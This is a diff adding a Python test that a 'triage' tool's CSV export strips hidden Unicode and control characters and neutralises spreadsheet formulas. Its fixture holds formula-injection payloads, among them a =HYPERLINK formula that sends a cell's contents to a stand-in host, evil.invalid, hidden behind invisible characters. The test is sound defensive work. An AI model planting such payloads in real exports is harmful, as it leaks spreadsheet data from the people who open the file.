@@ -169,3 +169,40 @@ def test_the_server_survives_the_deep_upload_on_benchmark(deep_files):
         page.locator(".st-key-bench_upload input[type=file]").set_input_files(str(VLLM))
         expect(page.get_by_text("Detected format: vLLM bench serve JSON").first).to_be_visible(timeout=60000)
         assert page.get_by_text("Traceback").count() == 0
+
+
+# ---------------------------------------------------------------- 3. CSV cells: clean, then escape
+
+CSV_HOSTILE = {"who": "\u202e=HYPERLINK(\"http://evil.invalid/?leak=\"&A1)", "note": "\x1b[0m+SUM(1,2)",
+               "technique": "\u200b\u2066 -2+3", "candidate": "\ufeff\u3000@cmd"}
+
+
+def _exported(tmp_path: Path) -> list[list[str]]:
+    import csv
+    import io
+
+    from triage.verify.experiment_log import Entry, ExperimentLog
+
+    db = tmp_path / "log.db"
+    ExperimentLog(db).save(Entry(CSV_HOSTILE["technique"], {}, "base.json", "0" * 64, CSV_HOSTILE["candidate"],
+                                 "1" * 64, [], "no effect", note=CSV_HOSTILE["note"], who=CSV_HOSTILE["who"]))
+    page_csv = ExperimentLog(db).export_csv()  # what the /log page's download button serves
+    proc = run_cli("log", "--db", str(db), "export")
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.replace("\r\n", "\n") == page_csv.replace("\r\n", "\n")
+    return list(csv.reader(io.StringIO(proc.stdout)))
+
+
+def test_csv_export_cleans_before_escaping(tmp_path):
+    from triage.safe_text import csv_cell
+
+    assert csv_cell(CSV_HOSTILE["who"]) == "'=HYPERLINK(\"http://evil.invalid/?leak=\"&A1)"
+    assert csv_cell(CSV_HOSTILE["note"]) == "'+SUM(1,2)"
+    assert csv_cell(CSV_HOSTILE["technique"]) == "'-2+3" and csv_cell(CSV_HOSTILE["candidate"]) == "'@cmd"
+    assert csv_cell("plain text") == "plain text" and csv_cell(-42.0) == -42.0
+    header, row = _exported(tmp_path)
+    cells = dict(zip(header, row, strict=True))
+    assert cells["who"].startswith("'=HYPERLINK(") and cells["note"] == "'+SUM(1,2)", cells
+    for value in row:  # nothing a spreadsheet would run, whatever sat in front of it
+        assert not value.startswith(("=", "+", "-", "@", "|", "%", " ", "\t")), value
+        assert not any(c in value for c in "\x1b\u202e\u200b\u2066\ufeff"), value
